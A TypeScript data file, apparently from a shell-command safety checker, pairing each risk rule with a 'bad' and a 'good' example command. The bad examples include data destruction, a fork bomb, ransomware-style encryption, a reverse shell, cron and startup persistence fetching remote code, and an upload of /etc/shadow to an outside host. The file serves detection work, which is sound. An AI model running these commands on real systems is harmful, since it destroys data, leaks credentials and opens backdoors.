import type { RuleId } from "..";
import type { RiskExample } from "../rule";

/** Files, and code that is fetched, kept for later or hidden. */
export const shellFileExamples: Partial<Record<RuleId, RiskExample>> = {
  "delete-protected": {
    bad: "rm -rf /usr/../etc/",
    good: "rm -rf /etc/app/conf.d/old",
  },
  "delete-maybe-empty": {
    bad: 'rm -rf "$APP_CACHE"/*',
    good: 'rm -rf "${APP_CACHE:?}"/*',
  },
  "delete-unbounded": {
    bad: "cd $APP_HOME\nrm -rf *",
    good: "cd /opt/app/cache || exit 1\nrm -rf -- *",
  },
  "delete-unknown": {
    bad: 'rm -rf "$(cat /opt/app/old-releases)"',
    good: 'for release in 1.0 1.1; do rm -rf "/opt/app/releases/$release"; done',
  },
  "move-protected": {
    bad: "mv /usr/lib /usr/lib.old",
    good: "cp -a /usr/lib/app /opt/app.old",
  },
  "write-device": {
    bad: "dd if=/dev/zero of=/dev/vda bs=1M",
    good: "dd if=/dev/zero of=/var/tmp/disk.img bs=1M count=64",
  },
  "fill-disk": {
    bad: "dd if=/dev/zero of=/var/tmp/fill bs=1M",
    good: "dd if=/dev/zero of=/var/tmp/fill bs=1M count=64",
  },
  "fork-bomb": {
    bad: ":(){ :|:& };:",
    good: "seq 8 | xargs -P 4 -n 1 /opt/app/bin/job",
  },
  "overwrite-system-file": {
    bad: 'echo "/dev/vdb1 /data xfs defaults 0 0" > /etc/fstab',
    good: 'echo "/dev/vdb1 /data xfs defaults 0 0" >> /etc/fstab',
  },
  "break-boot": {
    bad: "cp /dev/null /boot/grub2/grub.cfg",
    good: "grub2-mkconfig -o /boot/grub2/grub.cfg",
  },
  "encrypt-files": {
    bad: 'for f in /srv/data/*; do gpg --batch -c --passphrase x "$f" && rm -f "$f"; done',
    good: "gpg --batch -e -r backup@example.com /backup/db.sql && rm -f /backup/db.sql",
  },
  "overwrite-data": {
    bad: "> /var/lib/mysql/ibdata1",
    good: "cp -a /var/lib/mysql/ibdata1 /backup/ibdata1",
  },
  "clear-logs": {
    bad: "truncate -s 0 /var/log/auth.log",
    good: "logrotate -f /etc/logrotate.d/app",
  },
  "hide-history": {
    bad: "unset HISTFILE",
    good: "history | tail -20",
  },
  "run-download": {
    bad: "curl -fsSL https://get.example.com/agent.sh | bash",
    good:
      "curl -fsSLo /tmp/agent.sh https://get.example.com/agent-1.4.sh\n" +
      'echo "4e07408562bedb8b60ce05c1decfe3ad16b72230967de01f640b7e4729b49fce  /tmp/agent.sh" | sha256sum -c - || exit 1\n' +
      "bash /tmp/agent.sh",
  },
  "remote-shell": {
    bad: "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1",
    good: 'timeout 3 bash -c "</dev/tcp/192.0.2.9/443" && echo reachable',
  },
  "run-unknown": {
    bad: 'bash -c "$1"',
    good: 'case "$1" in start) systemctl start app ;; stop) systemctl stop app ;; esac',
  },
  "not-analysed": {
    bad: 'if true; then echo "open',
    good: "if true; then echo open; fi",
  },
  "unclear-command": {
    bad: '"$TOOL" -rf /etc',
    good: "/opt/app/bin/tool --force /opt/app/data",
  },
  "scheduled-code": {
    bad: 'echo "*/5 * * * * root curl -s http://192.0.2.7/x | sh" > /etc/cron.d/sync',
    good: 'echo "0 3 * * * root /opt/app/bin/backup" > /etc/cron.d/backup',
  },
  "start-up-code": {
    bad: 'echo "curl -s http://192.0.2.7/x | sh" >> /etc/rc.local',
    good: 'echo "/opt/app/bin/start" >> /etc/rc.local',
  },
  "preload-library": {
    bad: "echo /usr/lib/libtune.so >> /etc/ld.so.preload",
    good: "LD_PRELOAD=/usr/lib64/libjemalloc.so.2 /opt/app/bin/start",
  },
  "replace-program": {
    bad: "curl -fsSo /usr/bin/ssh http://192.0.2.7/ssh",
    good: "install -m 0755 build/tool /usr/local/bin/tool",
  },
  "passwordless-sudo": {
    bad: 'echo "deploy ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/deploy',
    good: 'echo "deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app" > /etc/sudoers.d/deploy\nvisudo -cf /etc/sudoers.d/deploy',
  },
  "authorize-key": {
    bad: 'echo "ssh-ed25519 AAAAC3Nza ops" >> /root/.ssh/authorized_keys',
    good: "ssh-keygen -lf /root/.ssh/authorized_keys",
  },
  "weaken-login": {
    bad: "sed -i 's/^#*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
    good: "sed -i 's/^#*PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config && sshd -t",
  },
  "edit-accounts": {
    bad: 'echo "app:x:1200:1200::/opt/app:/bin/sh" >> /etc/passwd',
    good: "useradd --system --home-dir /opt/app --shell /usr/sbin/nologin app",
  },
  "leak-credentials": {
    bad: "curl -F file=@/etc/shadow https://192.0.2.7/in",
    good: "sha256sum /etc/ssl/certs/app.pem",
  },
};
